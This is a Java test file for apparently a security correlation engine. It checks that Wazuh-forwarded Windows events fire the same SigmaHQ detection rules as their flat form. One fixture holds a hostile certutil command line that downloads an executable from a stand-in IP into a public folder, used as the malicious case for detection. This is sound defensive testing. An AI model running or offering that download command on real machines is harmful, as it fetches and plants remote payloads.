package io.socaas.correlation.sigma.yaml;

import static io.socaas.correlation.sigma.yaml.IngestedEvents.JSON;
import static io.socaas.correlation.sigma.yaml.IngestedEvents.assumeCorpus;
import static io.socaas.correlation.sigma.yaml.IngestedEvents.firedJson;
import static io.socaas.correlation.sigma.yaml.IngestedEvents.wazuhLines;
import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.node.ObjectNode;
import java.io.IOException;
import java.io.UncheckedIOException;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.Test;

/**
 * Windows events forwarded by Wazuh (its eventchannel decoder's {@code win.system} and {@code
 * win.eventdata}, every backslash doubled and every quote escaped in the values) fire the same
 * SigmaHQ rules as the same events sent flat with the values the host had: the real Wazuh events of
 * the corpus's ruleset tests, each against its flat form. Without the corpus ({@code SOCAAS_CORPUS})
 * the test is skipped.
 */
class WazuhWindowsLogsourcesTest {

    private static final Map<String, String> SYSTEM = Map.of(
            "channel", "Channel",
            "eventID", "EventID",
            "computer", "Computer",
            "providerName", "Provider_Name",
            "message", "Message");

    @Test
    void wazuhsWindowsEventsFireWhatTheSameEventsSentFlatFire() {
        assumeCorpus();
        List<String> events = wazuhLines(line -> line.startsWith("{\"win\":"));
        assertThat(events).hasSizeGreaterThan(50);
        int firing = 0;
        List<String> pathRules = new ArrayList<>();
        for (String wazuh : events) {
            String flat = flat(wazuh);
            List<String> fired = firedJson(wazuh);
            assertThat(fired).as(wazuh).containsExactlyInAnyOrderElementsOf(firedJson(flat));
            if (!fired.isEmpty()) {
                firing++;
            }
            if (flat.contains("\\\\System32\\\\") && !fired.isEmpty()) {
                pathRules.addAll(fired);
            }
        }
        assertThat(firing)
                .as("Wazuh events of the corpus that raise SigmaHQ rules")
                .isGreaterThan(10);
        assertThat(pathRules).as("rules fired on events with System32 paths").isNotEmpty();
    }

    @Test
    void aRuleOnAFolderOfThePathFiresOnAWazuhEvent() {
        assumeCorpus();
        // proc_creation_win_susp_system_exe_anomaly-like: Image contains '\System32\' and names a
        // program that never lives there; here the plain Sysmon process creation of an LOLBin
        String wazuh = """
                {"win":{"system":{"providerName":"Microsoft-Windows-Sysmon","eventID":"1",
                 "channel":"Microsoft-Windows-Sysmon/Operational","computer":"ws1"},
                 "eventdata":{"utcTime":"2026-03-01 09:15:02.123","image":"C:\\\\\\\\Windows\\\\\\\\System32\\\\\\\\certutil.exe",
                  "originalFileName":"CertUtil.exe",
                  "commandLine":"certutil.exe -urlcache -split -f http://203.0.113.9/a.exe C:\\\\\\\\Users\\\\\\\\Public\\\\\\\\a.exe",
                  "parentImage":"C:\\\\\\\\Windows\\\\\\\\System32\\\\\\\\cmd.exe","user":"CORP\\\\\\\\bob"}}}""";
        List<String> fired = firedJson(wazuh);
        assertThat(fired).isNotEmpty().containsExactlyInAnyOrderElementsOf(firedJson(flat(wazuh)));
        // and nothing of it on the same event launching notepad from the same folder
        String benign = wazuh.replace("certutil.exe -urlcache -split -f http://203.0.113.9/a.exe", "notepad.exe")
                .replace("certutil.exe", "notepad.exe")
                .replace("CertUtil.exe", "NOTEPAD.EXE");
        assertThat(firedJson(benign)).doesNotContainAnyElementsOf(fired);
    }

    /** Wazuh's {@code \\} as {@code \}, {@code \"} as {@code "}. */
    private static String unescaped(String value) {
        StringBuilder out = new StringBuilder();
        for (int i = 0; i < value.length(); i++) {
            out.append(value.charAt(i) == '\\' && i + 1 < value.length() ? value.charAt(++i) : value.charAt(i));
        }
        return out.toString();
    }

    /**
     * The event as a flat Windows event (Channel, EventID, ..., the rendered message and the data fields)
     * with the host's values.
     */
    private static String flat(String wazuh) {
        try {
            JsonNode win = JSON.readTree(wazuh).get("win");
            ObjectNode flat = JSON.createObjectNode();
            SYSTEM.forEach((theirs, ours) -> {
                if (win.path("system").hasNonNull(theirs)) {
                    flat.set(ours, win.path("system").get(theirs));
                }
            });
            win.path("eventdata").properties().forEach(e -> {
                String name =
                        Character.toUpperCase(e.getKey().charAt(0)) + e.getKey().substring(1);
                flat.put(name, unescaped(e.getValue().asText()));
            });
            return JSON.writeValueAsString(flat);
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
    }
}
